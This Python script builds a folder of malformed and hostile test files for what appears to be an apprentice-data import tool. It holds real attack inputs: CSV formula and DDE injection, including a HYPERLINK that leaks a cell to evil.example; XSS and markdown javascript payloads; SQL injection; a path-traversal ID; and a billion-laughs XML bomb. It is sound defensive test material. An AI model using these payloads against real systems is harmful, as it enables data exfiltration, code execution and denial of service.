"""Rebuild the broken and hostile files in this folder: ``python make_corpus.py``.

Each file is small and committed; this script documents how each was made. Two
hostile inputs are too big to commit and are built by the tests at run time instead
(a 60 MB upload and a zip bomb dressed as .xlsx): see ``tests/test_security_input.py``.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEADER = ("apprentice_id,name,email,sending_organisation,home_city,home_country,trade,"
          "training_year,available_from,available_to,desired_weeks")


def row(apprentice_id="B1", name="Lea Schmitz", email="lea@example.org", city="Dortmund",
        country="DE") -> str:
    return (f"{apprentice_id},{name},{email},HWK Dortmund,{city},{country},Tischlerin,2,"
            "2026-03-01,2026-05-31,4")


def csv(*rows: str) -> str:
    return "\n".join([HEADER, *rows]) + "\n"


def xlsx_with(sheet_xml: str) -> bytes:
    """A minimal workbook whose first sheet is ``sheet_xml``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Default Extension="xml" ContentType="'
                   'application/xml"/><Override PartName="/xl/workbook.xml" ContentType="'
                   'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main'
                   '+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
                   'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet'
                   '+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
                   'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
                   'schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml",
                   '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" '
                   'r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
                   'org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
                   'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                   'Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return buf.getvalue()


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
              for i in range(1, 10))
    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    "</sheetData></worksheet>"
)

FILES: dict[str, bytes] = {
    # --- encodings ------------------------------------------------------------------
    "utf16_without_bom.csv": csv(row()).encode("utf-16-le"),
    "utf32.csv": csv(row()).encode("utf-32"),
    "ebcdic.csv": csv(row()).encode("cp500"),
    "nul_bytes.csv": csv(row(name="Lea\x00\x00Schmitz")).encode(),
    "random_binary.csv": bytes(range(256)) * 8,
    # --- structure ------------------------------------------------------------------
    "pipe_delimited.csv": csv(row()).replace(",", "|").encode(),
    "truncated_mid_row.csv": csv(row(), row("B2"))[:-40].encode(),
    "truncated_in_quote.csv": (csv(row()) + 'B2,"Ben Unclosed,ben@example.org,HWK').encode(),
    "header_only_garbage.csv": b"\xef\xbb\xbf;;;;\n;;;;\n",
    "extra_cells.csv": csv(row() + ",surplus,cells").encode(),
    "duplicate_header.csv": csv(row()).replace("email", "name", 1).encode(),
    # --- hostile content ------------------------------------------------------------
    "formula_injection.csv": csv(
        row("B1", name='"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"'),
        row("B2", name="+cmd|' /C calc'!A0"),
        row("B3", name="@SUM(1+1)*cmd|' /C calc'!A0"),
        row("B4", name="-2+3+cmd|' /C calc'!A0"),
    ).encode(),
    "html_in_names.csv": csv(
        row("B1", name="<script>alert(document.cookie)</script>"),
        row("B2", name='<img src=x onerror="fetch(`//evil.example`)">'),
    ).encode(),
    "markdown_in_names.csv": csv(
        row("B1", name="[Click me](javascript:alert(1))"),
        row("B2", name="![pixel](http://tracker.example/p.png)"),
    ).encode(),
    "control_characters.csv": csv(
        row("B1", name="Lea\x1b[31mSchmitz"), row("B2", name="Ben\u202eredli"),
    ).encode(),
    "coordinates_out_of_range.csv": (
        HEADER + ",home_lat,home_lon\n" + row() + ",123.4,7.4\n" + row("B2") + ",51.5,-190\n"
    ).encode(),
    "coordinates_not_numbers.csv": (
        HEADER + ",home_lat,home_lon\n" + row() + ",NaN,inf\n"
    ).encode(),
    "duplicate_ids.csv": csv(row("B1"), row("B1", name="Ben Twin")).encode(),
    "missing_ids.csv": csv(row(""), row("  ")).encode(),
    "sql_in_id.csv": csv(row("B1'); DROP TABLE apprentices;--")).encode(),
    "path_in_id.csv": csv(row("../../etc/passwd")).encode(),
    "bad_email.csv": csv(row(email="not-an-address")).encode(),
    "dates_impossible.csv": csv(row().replace("2026-03-01", "2026-02-30")).encode(),
    "negative_weeks.csv": csv(row().rsplit(",", 1)[0] + ",-4").encode(),
    # --- spreadsheet files that are not spreadsheets --------------------------------
    "pdf_named.xlsx": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    "csv_named.xlsx": csv(row()).encode(),
    "html_named.xls": b"<html><body><table><tr><td>apprentice_id</td></tr></table></body></html>",
    "old_excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "zip_not_workbook.xlsx": (lambda: (lambda b: (zipfile.ZipFile(b, "w").writestr(
        "hello.txt", "not a workbook"), b.getvalue())[1])(io.BytesIO()))(),
    "truncated_workbook.xlsx": xlsx_with(
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        "apprentice_id</t></is></c></row></sheetData></worksheet>")[:-120],
    "billion_laughs.xlsx": xlsx_with(BILLION_LAUGHS),
    "png_named.csv": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
}


def main() -> None:
    for name, data in FILES.items():
        (HERE / name).write_bytes(data)
    print(f"{len(FILES)} files written to {HERE}")


if __name__ == "__main__":
    main()
